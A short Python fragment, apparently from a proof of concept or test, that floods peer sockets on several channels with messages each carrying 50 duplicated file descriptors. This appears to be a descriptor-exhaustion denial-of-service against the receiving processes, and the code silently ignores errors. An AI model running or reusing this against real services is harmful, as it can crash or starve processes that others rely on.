null = os.open("/dev/null", os.O_RDWR)
for descriptor in channel_sockets():
    try:
        peer = socket.socket(fileno=os.dup(descriptor))
        peer.setblocking(False)
        for _ in range(200):
            socket.send_fds(peer, [frame({"msg_type": "stream"})], [null] * 50)
    except (OSError, ValueError):
        pass
